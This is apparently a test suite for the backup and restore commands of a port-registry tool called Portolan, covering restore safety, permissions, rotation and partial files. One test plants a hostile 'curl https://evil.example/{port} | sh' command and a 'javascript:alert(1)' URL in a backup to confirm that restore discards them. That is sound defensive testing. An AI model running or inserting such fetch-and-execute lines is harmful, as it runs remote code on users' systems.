import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, type TestContext, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { stripVTControlCharacters } from 'node:util';
import { contentOf, executeSql } from '../support/database-content.ts';
import { makeEarlierDatabase } from '../support/earlier-schema.ts';
import { assertFails, PROJECT, runPortolan, startServer } from '../support/portolan-process.ts';
import { putSeededDatabase } from '../support/seeded-database.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { bearer } from '../support/tokens.ts';

async function setUp(t: TestContext) {
  const folder = temporaryFolder(t);
  const DATABASE = join(folder, 'portolan.db');
  const copy = join(folder, 'copy.db');
  await putSeededDatabase(DATABASE);
  const Authorization = bearer(DATABASE, 'write');
  const run = async (...args: string[]) => {
    const { code, stdout, stderr } = await runPortolan(args, { environment: { DATABASE } });
    assert.deepEqual({ code, stderr }, { code: 0, stderr: '' });
    return stdout;
  };
  return { folder, DATABASE, copy, Authorization, run };
}

async function create(url: string, Authorization: string, name: string): Promise<void> {
  const headers = { Authorization, 'Content-Type': 'application/json' };
  const response = await fetch(`${url}/associations`, {
    method: 'POST',
    headers,
    body: JSON.stringify({ name, firstPort: 9 }),
  });
  assert.equal(response.status, 201);
  await response.body?.cancel();
}

/** Runs a command with a pseudo-terminal as standard input and output. */
async function onTerminal(args: readonly string[], DATABASE: string, input: string) {
  const { PATH = '' } = process.env;
  const line = [process.execPath, 'bin/portolan.js', ...args].map((word) => `'${word}'`).join(' ');
  const child = spawn('script', ['--quiet', '--return', '--command', line, '/dev/null'], {
    cwd: PROJECT,
    env: { PATH, DATABASE, TERM: 'dumb', NO_COLOR: '1' },
  });
  let output = '';
  child.stdout.on('data', (chunk: Buffer) => {
    output += chunk;
    // Typed after the question appears: the terminal is in another mode before.
    if (input !== '' && output.includes('[y/N] ')) child.stdin.end(input);
  });
  const [code] = await once(child, 'close');
  return { code, output: stripVTControlCharacters(output).replaceAll('\r', '') };
}

async function namesAt(url: string): Promise<string[]> {
  const { results } = (await (await fetch(`${url}/associations?origin=own`)).json()) as { results: { name: string }[] };
  return results.map(({ name }) => name).sort();
}

describe('a backup', () => {
  test('is restored under a running server, which serves it at once and can still write', async (t) => {
    const { DATABASE, copy, Authorization, run } = await setUp(t);
    const { url } = await startServer(t, { DATABASE });
    await create(url, Authorization, 'kept');
    assert.match(await run('backup', copy), /^Backed up to ".*copy\.db": \d+ bytes, checked\n$/);
    await create(url, Authorization, 'later');
    assert.deepEqual(await namesAt(url), ['kept', 'later']);
    const before = (await fetch(`${url}/ports/9`)).headers.get('ETag');
    const restored = await run('restore', copy);
    const [, kept = ''] = /To undo: portolan restore "(.*)"\n$/.exec(restored) ?? [];
    assert.equal(
      restored,
      `Restored ${JSON.stringify(copy)}: 1 own entry, in place of 2\nKept what it replaced. To undo: portolan restore ${JSON.stringify(kept)}\n`,
    );
    const answer = await fetch(`${url}/ports/9`);
    assert.deepEqual([await namesAt(url), answer.headers.get('ETag') === before], [['kept'], false]);
    await create(url, Authorization, 'after');
    assert.deepEqual(await namesAt(url), ['after', 'kept']);
    assert.match(kept, /^.*\/portolan\.db\.before-restore-\d{8}T\d{9}Z$/);
    assert.equal(dirname(kept), dirname(DATABASE));
    assert.equal(statSync(kept).mode & 0o777, 0o600);
    assert.match(await run('restore', kept), /: 2 own entries, in place of 2\nKept /);
    assert.deepEqual(await namesAt(url), ['kept', 'later']);
  });

  test('is only checked by restore --dry-run, which says what would change', async (t) => {
    const { folder, DATABASE, copy, run } = await setUp(t);
    await run('backup', copy);
    await run('token', 'revoke', 'write');
    const before = readdirSync(folder);
    const outcome = await runPortolan(['restore', '--dry-run', copy], { environment: { DATABASE } });
    assert.deepEqual(outcome, {
      code: 0,
      stdout: `Dry run, nothing was changed. Would restore ${JSON.stringify(copy)}: 0 own entries, in place of 0\n`,
      stderr: 'Valid again, though revoked after the backup was made: write. Revoke with portolan token revoke\n',
    });
    assert.deepEqual(readdirSync(folder), before);
    assert.match(await run('token', 'list'), / {2}revoked /);
    writeFileSync(copy, 'x');
    await assertFails(
      ['restore', '--dry-run', copy],
      { DATABASE },
      `Cannot use ${JSON.stringify(copy)}: expected a whole backup of Portolan`,
    );
  });

  test('is restored after a question on a terminal, unless --yes is given', async (t) => {
    const { folder, DATABASE, copy, run } = await setUp(t);
    await run('backup', copy);
    const question = `Replace the content of ${JSON.stringify(DATABASE)}? [y/N] `;
    const plan = `Restores ${JSON.stringify(copy)}: 0 own entries, in place of 0`;
    const kept = () => readdirSync(folder).filter((name) => name.includes('before-restore')).length;
    const refused = await onTerminal(['restore', copy], DATABASE, 'n\n');
    assert.ok(refused.output.includes(`${plan}\n${question}`), refused.output);
    assert.match(refused.output, /\nportolan: Nothing was changed: the restore was not confirmed\n$/);
    assert.deepEqual([refused.code, kept()], [1, 0]);
    const confirmed = await onTerminal(['restore', copy], DATABASE, 'y\n');
    assert.match(confirmed.output, /\nKept what it replaced\. To undo: portolan restore ".*"\n$/);
    assert.deepEqual([confirmed.code, kept()], [0, 1]);
    const unasked = await onTerminal(['restore', '--yes', copy], DATABASE, '');
    assert.ok(!unasked.output.includes(question));
    assert.deepEqual([unasked.code, kept()], [0, 2]);
  });

  test('is one file, which replaces an older one and leaves no other file', async (t) => {
    const { folder, DATABASE, copy, run } = await setUp(t);
    await run('backup', copy);
    executeSql(DATABASE, "UPDATE list SET source = 'changed'");
    await run('backup', copy);
    assert.deepEqual(
      readdirSync(folder).filter((name) => name.startsWith('copy')),
      ['copy.db'],
    );
    assert.deepEqual(contentOf(copy), contentOf(DATABASE));
  });

  test('replaces a database that is missing or damaged', async (t) => {
    const { DATABASE, copy, run } = await setUp(t);
    await run('backup', copy);
    const content = contentOf(copy);
    for (const damage of [() => rmSync(DATABASE), () => writeFileSync(DATABASE, Buffer.alloc(9000, 'x'))]) {
      for (const end of ['-wal', '-shm']) rmSync(DATABASE + end, { force: true });
      damage();
      const damaged = existsSync(DATABASE) ? readFileSync(DATABASE) : null;
      const restored = await run('restore', copy);
      assert.deepEqual(contentOf(DATABASE), content);
      const [, kept] = /\nKept the damaged database: "(.*)"\n$/.exec(restored) ?? [];
      assert.deepEqual(kept === undefined ? null : readFileSync(kept), damaged);
    }
  });

  test('of an older schema is migrated', async (t) => {
    const { DATABASE, copy } = await setUp(t);
    makeEarlierDatabase(copy, 6);
    const environment = { DATABASE };
    assert.equal((await runPortolan(['restore', copy], { environment })).code, 0);
    const [header, ...entries] = (await runPortolan(['own', 'export'], { environment })).stdout.trimEnd().split('\n');
    assert.match(header ?? '', /^id,name,/);
    assert.deepEqual(
      entries.map((line) => line.split(',')[1]),
      ['harbour crane', 'quayside lamp'],
    );
  });

  test('gets the bundled lists of this version, even if its own lists were changed', async (t) => {
    const { DATABASE, copy, run } = await setUp(t);
    const content = contentOf(DATABASE);
    await run('backup', copy);
    executeSql(
      copy,
      `UPDATE check_command SET command = 'curl https://evil.example/{port} | sh'; DELETE FROM blocked_port WHERE port = 1;
       UPDATE ephemeral_range SET source_url = 'javascript:alert(1)'; UPDATE assignment SET description = 'x' WHERE id = 9;
       UPDATE association SET name = 'x' WHERE id = 'zoom-media'; UPDATE list SET sha256 = 'of an older version' WHERE name = 'associations'`,
    );
    await run('restore', copy);
    const { list: listsNow, ...rowsNow } = contentOf(DATABASE);
    const { list: lists, ...rows } = content;
    const undated = (row: Readonly<Record<string, unknown>>) => ({ ...row, imported_at: null });
    assert.deepEqual(rowsNow, rows);
    assert.deepEqual(listsNow.map(undated), lists.map(undated));
  });

  test("keeps the official rows of an operator's import", async (t) => {
    const { DATABASE, copy, run } = await setUp(t);
    executeSql(DATABASE, "UPDATE list SET bundled = 0, sha256 = 'mine' WHERE name = 'assignments'");
    executeSql(DATABASE, "UPDATE assignment SET assignee = '[Mine]' WHERE id = 9");
    const { assignment } = contentOf(DATABASE);
    await run('backup', copy);
    await run('restore', copy);
    assert.deepEqual(contentOf(DATABASE).assignment, assignment);
  });

  test('warns about revoked tokens that are valid again', async (t) => {
    const { DATABASE, copy, run } = await setUp(t);
    bearer(DATABASE, 'admin');
    await run('backup', copy);
    bearer(DATABASE, 'read');
    for (const name of ['write', 'read']) await run('token', 'revoke', name);
    const { code, stdout, stderr } = await runPortolan(['restore', copy], { environment: { DATABASE } });
    assert.deepEqual(
      [code, stdout.replace(/Kept what it replaced.*\n/, ''), stderr],
      [
        0,
        `Restored ${JSON.stringify(copy)}: 0 own entries, in place of 0\n`,
        'Valid again, though revoked after the backup was made: write. Revoke with portolan token revoke\n',
      ],
    );
  });

  test('does not replace another kind of file, and requires an existing folder', async (t) => {
    const { folder, DATABASE } = await setUp(t);
    const letter = join(folder, 'letter.txt');
    writeFileSync(letter, 'Dear reader');
    const other = join(folder, 'other.db');
    executeSql(other, 'CREATE TABLE note (text)');
    for (const file of [letter, other]) {
      const before = readFileSync(file);
      await assertFails(
        ['backup', file],
        { DATABASE },
        `Cannot use ${JSON.stringify(file)}: expected a whole backup of Portolan`,
      );
      await assertFails(
        ['restore', file],
        { DATABASE },
        `Cannot use ${JSON.stringify(file)}: expected a whole backup of Portolan`,
      );
      assert.deepEqual(readFileSync(file), before);
    }
    const nowhere = join(folder, 'no', 'where.db');
    await assertFails(['backup', nowhere], { DATABASE }, `Cannot write ${JSON.stringify(nowhere)}: no such folder`);
    await assertFails(['restore', nowhere], { DATABASE }, `Cannot read ${JSON.stringify(nowhere)}: no such file`);
  });

  test('is refused if it is damaged, and changes nothing', async (t) => {
    const { DATABASE, copy, run } = await setUp(t);
    await run('backup', copy);
    const bytes = readFileSync(copy);
    bytes.fill(0x55, 40 * 4096, 60 * 4096);
    writeFileSync(copy, bytes);
    const before = contentOf(DATABASE);
    await assertFails(
      ['restore', copy],
      { DATABASE },
      `Cannot use ${JSON.stringify(copy)}: expected a whole backup of Portolan`,
    );
    assert.deepEqual(contentOf(DATABASE), before);
  });

  test("is not restored over another program's database", async (t) => {
    const { folder, copy, run } = await setUp(t);
    await run('backup', copy);
    const foreign = join(folder, 'foreign.db');
    executeSql(foreign, 'CREATE TABLE note (text)');
    const before = readFileSync(foreign);
    await assertFails(
      ['restore', copy],
      { DATABASE: foreign },
      'The database is not one of Portolan: set DATABASE to another file',
    );
    assert.deepEqual(readFileSync(foreign), before);
  });
});

describe('a folder of backups', () => {
  test('gets a new backup named by the time, and loses the oldest beyond --keep', async (t) => {
    const { folder: outer, DATABASE, run } = await setUp(t);
    const folder = join(outer, 'backups');
    mkdirSync(folder);
    const old = ['portolan-20240101T000000Z.db', 'portolan-20250101T000000Z.db', 'portolan-20250102T000000Z.db'];
    const others = ['portolan-2024.db', 'portolan-20240101T000000Z.db.txt', 'notes'];
    for (const name of [...old, ...others]) writeFileSync(join(folder, name), name);
    chmodSync(DATABASE, 0o640);
    const printed = (await run('backup', '--keep', '3', folder)).trimEnd().split('\n');
    const fresh = readdirSync(folder).filter((name) => !old.includes(name) && !others.includes(name));
    assert.equal(fresh.length, 1);
    const [name = ''] = fresh;
    assert.match(name, /^portolan-2\d{7}T\d{6}Z\.db$/);
    assert.deepEqual(readdirSync(folder).sort(), [...others, ...old.slice(1), name].sort());
    const bytes = statSync(join(folder, name)).size;
    assert.deepEqual(printed, [
      `Backed up to ${JSON.stringify(join(folder, name))}: ${bytes} bytes, checked`,
      `Removed ${JSON.stringify(join(folder, 'portolan-20240101T000000Z.db'))}`,
    ]);
    assert.deepEqual(contentOf(join(folder, name)), contentOf(DATABASE));
    assert.equal(statSync(join(folder, name)).mode & 0o777, 0o640);
    // A backup dated in the future, by a wrong clock: the new one is still the one that stays.
    writeFileSync(join(folder, 'portolan-29990101T000000Z.db'), '');
    await run('backup', '--keep=1', folder);
    const [last, ...more] = readdirSync(folder).filter((found) => !others.includes(found));
    assert.deepEqual([more, last?.startsWith('portolan-2999')], [[], false]);
  });

  test('keeps all backups when the new one fails', async (t) => {
    const folder = temporaryFolder(t);
    const DATABASE = join(folder, 'none.db');
    const names = ['portolan-20240101T000000Z.db', 'portolan-20250101T000000Z.db'];
    for (const name of names) writeFileSync(join(folder, name), name);
    const missing = `Setting DATABASE: there is no file ${JSON.stringify(DATABASE)}; "portolan seed" creates it`;
    await assertFails(['backup', '--keep', '1', folder], { DATABASE }, missing);
    assert.deepEqual(readdirSync(folder), names);
    const nowhere = join(folder, 'nowhere');
    const sentence = `Cannot use the folder ${JSON.stringify(nowhere)}: ENOENT`;
    await putSeededDatabase(DATABASE);
    await assertFails(['backup', '--keep', '1', nowhere], { DATABASE }, sentence);
    for (const keep of ['0', '1.5', 'all', '3651']) {
      const { code, stderr } = await runPortolan(['backup', '--keep', keep, folder], { environment: { DATABASE } });
      assert.equal(code, 2);
      const expected = `Cannot parse number of backups "${keep}": expected an integer from 1 to 3650.`;
      assert.equal(stderr.split('\n')[0], `error: option '--keep <number>' argument '${keep}' is invalid. ${expected}`);
    }
  });
});

/** Returns the mode of each file in a folder, by its name. */
function fileModes(folder: string): Record<string, number> {
  return Object.fromEntries(readdirSync(folder).map((name) => [name, statSync(join(folder, name)).mode & 0o777]));
}

describe('the file rights of a database', () => {
  test('are limited to the owner, also for its log and copies, with any umask', async (t) => {
    const folder = temporaryFolder(t);
    const DATABASE = join(folder, 'portolan.db');
    const { url } = await startServer(t, { DATABASE });
    await create(url, bearer(DATABASE, 'write'), 'logged');
    const copy = join(folder, 'copy.db');
    assert.equal((await runPortolan(['backup', copy], { environment: { DATABASE } })).code, 0);
    const fresh = join(folder, 'fresh.db');
    assert.equal((await runPortolan(['restore', copy], { environment: { DATABASE: fresh } })).code, 0);
    assert.deepEqual(fileModes(folder), {
      ...{ 'copy.db': 0o600, 'fresh.db': 0o600 },
      ...{ 'portolan.db': 0o600, 'portolan.db-shm': 0o600, 'portolan.db-wal': 0o600 },
    });
  });

  test('of an existing file stay, damaged or not', async (t) => {
    const { folder, DATABASE, copy, run } = await setUp(t);
    chmodSync(DATABASE, 0o640);
    await run('seed');
    await run('backup', copy);
    chmodSync(copy, 0o600);
    await run('restore', copy);
    assert.equal(fileModes(folder)['portolan.db'], 0o640);
    for (const end of ['-wal', '-shm']) rmSync(DATABASE + end, { force: true });
    writeFileSync(DATABASE, Buffer.alloc(9000, 'x'));
    await run('restore', copy);
    assert.equal(fileModes(folder)['portolan.db'], 0o640);
  });
});

/** Kills a command while it copies, and returns the names and modes of the partial files that it left. */
async function killWhileCopying(t: TestContext, folder: string, args: readonly string[], DATABASE: string) {
  const { PATH = '' } = process.env;
  for (;;) {
    const child = spawn(process.execPath, ['bin/portolan.js', ...args], { cwd: PROJECT, env: { PATH, DATABASE } });
    t.after(() => child.kill('SIGKILL'));
    const ended = once(child, 'exit');
    const isCopying = () => readdirSync(folder).some((name) => name.endsWith('.part'));
    while (child.exitCode === null && !isCopying()) await delay(1);
    child.kill('SIGKILL');
    await ended;
    const left = Object.entries(fileModes(folder)).filter(([name]) => name.includes('.part'));
    if (left.length > 0) return left;
  }
}

describe('the partial file of a killed copy', () => {
  for (const command of ['backup', 'restore'] as const) {
    test(`is limited to the owner, and the next ${command} into the folder removes it`, async (t) => {
      const { folder, DATABASE, copy, run } = await setUp(t);
      await run('backup', copy);
      const left = await killWhileCopying(t, folder, [command, copy], DATABASE);
      for (const [name, mode] of left) assert.equal(mode, 0o600, name);
      await run(command, copy);
      assert.deepEqual(
        Object.keys(fileModes(folder)).filter((name) => name.includes('.part')),
        [],
      );
    });
  }

  test('is removed after an hour if its process is unknown; other files stay', async (t) => {
    const { folder: outer, DATABASE, run } = await setUp(t);
    const folder = join(outer, 'backups');
    mkdirSync(folder);
    const [machine = ''] = (await machineId(t, outer, DATABASE)) ?? [];
    const stay = [
      // Of a running process, of another machine, of a fresh unknown process, of another program.
      `copy.db.${machine}-${process.pid}.part`,
      'copy.db.00000000-1.part',
      'portolan-20240101T000000Z.db.part',
      'film.part',
    ];
    const old = [
      ...['', '-wal', '.copy', '.copy-wal', '.copy.gz'].map((suffix) => `copy.db.00000000-2.part${suffix}`),
      'portolan-20250101T000000Z.db.part',
    ];
    for (const name of [...stay, ...old]) writeFileSync(join(folder, name), '');
    const twoHoursAgo = Date.now() / 1000 - 7200;
    for (const name of [...old, 'film.part']) utimesSync(join(folder, name), twoHoursAgo, twoHoursAgo);
    await run('backup', '--keep', '3', folder);
    assert.deepEqual(
      readdirSync(folder)
        .filter((name) => name.includes('.part'))
        .sort(),
      stay.sort(),
    );
  });
});

/** Returns the id of this machine in the names of partial files. */
async function machineId(t: TestContext, folder: string, DATABASE: string): Promise<string[] | undefined> {
  const [[name] = ['']] = await killWhileCopying(t, folder, ['backup', join(folder, 'killed.db')], DATABASE);
  return /([0-9a-f]{8})-\d+\.part/.exec(name)?.slice(1);
}
